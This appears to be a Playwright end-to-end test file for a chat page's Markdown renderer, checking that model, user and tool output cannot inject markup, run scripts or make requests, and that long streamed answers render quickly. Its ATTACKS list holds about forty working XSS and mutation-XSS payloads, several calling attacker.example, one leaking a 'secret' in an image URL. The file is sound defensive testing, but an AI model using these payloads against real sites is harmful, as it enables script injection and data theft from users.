"""What the page at `/` makes of what a model says: Markdown that grows, and nothing that acts or asks the network."""

from __future__ import annotations

import json

import pytest
from playwright.async_api import Browser, Error, expect

from e2e.asking import approval, question
from e2e.visit import Transport, Visit, both
from support.serving import Puppets

pytestmark = pytest.mark.asyncio(loop_scope="session")

ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<math><mtext></p><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>*{background:url(//attacker.example)}</style>",
    "<link rel=prefetch href=//attacker.example>",
    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "<video poster=//attacker.example><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=//attacker.example></template>",
    "<base href=//attacker.example>",
    "<p class=unseen id=output name=cookie style='position:fixed'>x</p>",
    "![x](https://attacker.example/?q=secret)",
    '![x](/healthz?secret "t\' onerror=alert(1)")',
    '!["><img src=x onerror=alert(1)>](https://attacker.example/i.png)',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](\\javascript:alert(1) 'x')",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](/chat/stream?message=spend)",
    "[x](//attacker.example/y)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://attacker.example/?a=<img src=x onerror=alert(1)>>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "``` js onload=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```",
    "| <img src=x onerror=alert(1)> |\n|:-|\n| <b onmouseover=alert(1)>x</b> |",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "- [ ] <img src=x onerror=alert(1)>",
    "&lt;b&gt;\u202e",
    "**<img src=x onerror=alert(1)**>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
)
CORPUS = "\n\n".join(ATTACKS)
NOT_PLAIN = ":is(img, script, svg, math, style, iframe, form, input, link, meta, base, video, template, noscript)"
INSPECT = """output => [...output.querySelectorAll('*')].flatMap(each => [...each.attributes].map(({name, value}) =>
    [each.localName, name, value])).filter(([tag, name, value]) => /^on|^style$|^src/.test(name) ||
    (name === 'id' && !/^ask-[0-9]+$/.test(value)) || (tag === 'a' && name === 'href' && !/^https:/.test(value)))"""
"""Attributes that the page itself has no use for; its own ids are those of a form's fields."""


@both
async def test_nothing_acts(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """Markup of a user, a model or a tool, in whatever pieces it comes, is text: no element, dialog or request."""
    await visit.choose(transport)
    await visit.ask(CORPUS)
    puppet = await puppets.next()
    puppet.emit("THINKING", content=CORPUS)
    puppet.emit("TOOL_CALL_START", tool_call_id="c1", tool_name=ATTACKS[0], parameters={ATTACKS[1]: CORPUS})
    puppet.emit("TOOL_CALL_FINISH", tool_call_id="c1", tool_name="x", result=CORPUS, status="error", duration=0)
    for pieces in (1, 2, 7, len(CORPUS)):
        puppet.say(*(CORPUS[start : start + pieces] for start in range(0, len(CORPUS), pieces)), "\n\n")
    for tag in range(3):
        puppet.emit("X" * 9, html=ATTACKS[tag])
    puppet.emit("ERROR", error_type="agent_error", message=CORPUS, error=CORPUS)
    await expect(visit.notice).to_have_text("Failed")
    await expect(visit.answer.get_by_text(ATTACKS[1])).to_have_count(4)
    for part in (".question", ".thinking .text", ".flow > .error"):
        await expect(visit.page.locator(part)).to_have_text(CORPUS)
    await expect(visit.page.locator(".tool .name")).to_have_text(ATTACKS[0])
    await expect(visit.page.locator(".turn").locator(NOT_PLAIN)).to_have_count(0)
    assert await visit.page.locator(".turn").evaluate(INSPECT) == []


@both
async def test_an_answer_that_is_no_text(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """A result that is an object, which was never told as text, is shown as JSON, and markup in it is text."""
    await visit.choose(transport)
    await visit.ask()
    puppet = await puppets.next()
    puppet.emit("AGENT_FINISH", result={"sum": 3, "html": ATTACKS[0]})
    puppet.end()
    await expect(visit.answer.locator("pre")).to_contain_text('"sum": 3')
    await expect(visit.answer.locator("pre")).to_contain_text(ATTACKS[0][:8])
    await expect(visit.page.locator(".turn").locator(NOT_PLAIN)).to_have_count(0)


@both
async def test_nothing_acts_of_what_is_asked_and_said(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """Markup in a question, its form, a call to approve, an answer and a message is text, on the card and after it."""
    await visit.choose(transport)
    await visit.ask()
    puppet = await puppets.next()
    field = {"type": "string", "title": CORPUS, "description": CORPUS, "default": CORPUS}
    options = {"type": "string", "title": ATTACKS[2], "enum": list(ATTACKS)}
    few = {"type": "string", "enum": list(ATTACKS[:3])}
    names = {ATTACKS[0]: field, ATTACKS[1]: options, ATTACKS[2]: few}
    asked = question(puppet, CORPUS, type="object", properties=names, required=[ATTACKS[1], ATTACKS[2]])
    call = await approval(puppet, CORPUS, **{ATTACKS[3]: CORPUS, ATTACKS[4]: {ATTACKS[5]: ATTACKS[6]}})
    await expect(visit.card).to_have_count(2)
    await visit.ask(CORPUS)
    await expect(visit.said).to_have_text(CORPUS)
    for where in (visit.card, visit.page.locator(".asked, .said")):
        await expect(where.locator(f"{NOT_PLAIN}:not(form, input)")).to_have_count(0)
        assert await visit.page.locator(".turn").evaluate(INSPECT) == []
        if where == visit.card:
            await visit.card.get_by_role("combobox").select_option(ATTACKS[6])
            await visit.card.get_by_role("radio").last.check()
            await visit.button("Answer").click()
            assert (await asked)[ATTACKS[0]] == CORPUS
            await visit.button("Reject").click()
            await visit.card.get_by_label("Reason").fill(CORPUS)
            await visit.button("Reject").click()
            assert (await call).reason == CORPUS
            await expect(visit.decided).to_have_count(2)
    puppet.end()
    await expect(visit.notice).to_have_text("Completed")


async def test_what_is_behind_the_renderer_holds_too(visit: Visit) -> None:
    """Were Markdown's own escaping to fail, raw HTML would still come to nothing but plain elements and text."""
    found = await visit.page.evaluate(
        """async ([attacks, banned]) => {
            const {clean} = await import('/page/markdown.js');
            const holder = document.querySelector('#list');
            for (const attack of [...attacks, attacks.join('')]) holder.append(clean(attack));
            return [holder.querySelectorAll(banned).length, holder.querySelectorAll('[id=output]').length];
        }""",
        [ATTACKS, NOT_PLAIN],
    )
    assert found == [0, 0]
    assert await visit.page.locator("#list").evaluate(INSPECT) == []
    visit.forgive("violates the following Content Security Policy")  # of what it parses, in a document that is inert


async def test_markup_is_refused_by_the_browser(visit: Visit) -> None:
    """The page's policy makes the browser itself refuse what a careless change might do: markup from a string."""
    with pytest.raises(Error, match="TrustedHTML"):
        await visit.page.evaluate("document.body.innerHTML = '<img src=x>'")
    with pytest.raises(Error, match="olicy"):
        await visit.page.evaluate("trustedTypes.createPolicy('dompurify', {createHTML: text => text})")
    visit.forgive("TrustedHTML", "trustedTypes", "trusted-types", "TrustedTypePolicy")


async def test_images_and_links(visit: Visit, puppets: Puppets) -> None:
    """An image is a link, and a link leads elsewhere, in a tab of its own which learns nothing of this one."""
    await visit.ask()
    puppet = await puppets.next()
    puppet.say("![a chart](https://a.example/c.png) [site](https://b.example/?x=1&y=2) [mail](mailto:a@b.example) ")
    puppet.say("[here](/logout) [there](//c.example) <https://d.example/>")
    puppet.end()
    await expect(visit.notice).to_have_text("Completed")
    links = visit.answer.get_by_role("link")
    wanted = ["https://a.example/c.png", "https://b.example/?x=1&y=2", "mailto:a@b.example", "https://d.example/"]
    assert await links.evaluate_all("links => links.map(link => link.getAttribute('href'))") == wanted
    assert await links.evaluate_all("links => links.map(link => link.rel + link.target)") == [
        "noopener noreferrer_blank"
    ] * len(wanted)
    await expect(visit.answer).to_have_text("a chart site mail here there https://d.example/")


DOCUMENT = """# Title

A paragraph with **strong**, *emphasis*, ~~gone~~, `code` and
a second line.

1. one

2. two
   - nested

   still two

Then

10. ten

| a | b |
|---|--:|
| 1 | 2 |

```py
def f():

    return "# no heading"
```

    indented

> quoted
> > deeper

Setext
======

- [x] done
- [ ] open

Reference [one][ref], and a line<br>break.

---

[ref]: https://a.example/

See [two][ref].
"""
PIECEWISE = """async ([source, length]) => {
    const {Markdown} = await import('/page/markdown.js');
    const markdown = new Markdown();
    for (let start = 0; start < source.length; start += length) {
        markdown.add(source.slice(start, start + length));
        while (!markdown.draw(Infinity)) await new Promise(setTimeout);
    }
    markdown.end();
    while (!markdown.draw(Infinity)) await new Promise(setTimeout);
    return markdown.element.innerHTML;
}"""


async def test_growing_comes_to_the_same(visit: Visit) -> None:
    """However a text is cut into tokens, it ends as if it had come at once."""
    source = "[ref]: https://a.example/\n\n" + DOCUMENT
    whole = await visit.page.evaluate(PIECEWISE, [source, len(source)])
    for tag in (
        "<h3>Title",
        '<ol start="10">',
        "<table>",
        'data-language="py"',
        "☑ done",
        "<blockquote>",
        "line<br>break",
    ):
        assert tag in whole
    assert whole.count('href="https://a.example/"') == 2
    for length in (1, 50):
        assert await visit.page.evaluate(PIECEWISE, [source, length]) == whole


PARAGRAPH = "Some *words* of `prose`, as a model has them, in a line that goes on for a while and then ends. "
LONG = {
    "mixed": (DOCUMENT + PARAGRAPH * 3 + "\n\n") * 60,
    "code": "```js\n" + "const answer = await client.stream('Hello').result;\n" * 1_000 + "```\n",
    "paragraph": PARAGRAPH * 500,
    "list": "".join(f"- item {number} with **strong** words and `code`\n" for number in range(1_000)),
    "table": "| a | b | c |\n|---|---|---|\n" + "| one | **two** | `three` |\n" * 1_000,
}


ALL_DRAWN = """() => new Promise(done => {
    const last = () => [...document.querySelectorAll('.answer > p')].at(-1)?.textContent;
    const look = () => last() === 'The end.' ? done() : requestAnimationFrame(look);
    look();
})"""  # Playwright's own look for a text takes 120 ms of the page's thread
PIECES = {"list": ("ul", "ul > li"), "table": ("table", "tbody tr")}
"""What is closed piece by piece and is one all the same."""


def longest_task(trace: bytes) -> float:
    """Give the most processor time, in ms, that one task took in a page's main thread.

    A task's duration also has what the machine did meanwhile for others.
    """
    events = json.loads(trace)["traceEvents"]
    threads = {
        (event["pid"], event["tid"]): event["args"]["name"] for event in events if event["name"] == "thread_name"
    }
    times: list[int] = [
        event["tdur"]
        for event in events
        if threads.get((event["pid"], event["tid"])) == "CrRendererMain" and "tdur" in event
    ]
    assert times
    longest: float = max(times)
    return longest / 1000


@pytest.mark.parametrize(
    "kind", [pytest.param(kind, marks=[] if kind == "mixed" else [pytest.mark.full]) for kind in LONG]
)
async def test_a_long_answer(visit: Visit, browser: Browser, puppets: Puppets, kind: str) -> None:
    """10,000 tokens, as fast as they come, never keep the page from answering its reader for a tenth of a second."""
    text = LONG[kind]
    step = -(-len(text) // 10_000)
    tokens = [text[start : start + step] for start in range(0, len(text), step)]
    await browser.start_tracing(page=visit.page, categories=["toplevel"])
    try:
        await visit.ask()
        puppet = await puppets.next()
        puppet.say(*tokens, "\n\nThe end.")
        puppet.end()
        await visit.page.evaluate(ALL_DRAWN)
        await expect(visit.shown("Cursor")).to_have_text(f"event {len(tokens) + 3}")
    finally:
        trace = await browser.stop_tracing()
    assert longest_task(trace) <= 100
    if kind in PIECES:
        of, item = PIECES[kind]
        await expect(visit.answer.locator(of)).to_have_count(1)
        await expect(visit.answer.locator(item)).to_have_count(1_000)
